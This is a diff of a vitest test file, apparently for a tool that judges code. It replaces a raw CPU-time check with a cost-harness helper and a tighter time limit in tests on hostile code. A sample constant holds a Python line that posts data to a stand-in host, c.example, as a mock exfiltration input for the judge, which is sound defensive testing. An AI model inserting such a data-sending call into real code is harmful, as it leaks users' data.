@@ -1,5 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { judged } from "./judged-code.ts";
+import { startCost } from "../../../../test/harness/cost.ts";
 
 const SHIP = `import requests\ndef ship(x):\n    requests.post("https://c.example", data=x)`;
 
@@ -130,10 +131,9 @@ describe("hostile code costs bounded time", () => {
   ];
 
   test.each(SAMPLES)("%s", async (_name, text) => {
-    const startedAt = process.threadCpuUsage();
+    const cost = startCost();
     await judged({ "x.py": text });
-    const { user, system } = process.threadCpuUsage(startedAt);
-    expect((user + system) / 1000).toBeLessThan(4_000);
+    expect(cost()).toBeLessThan(1600);
   });
 
   test.each([
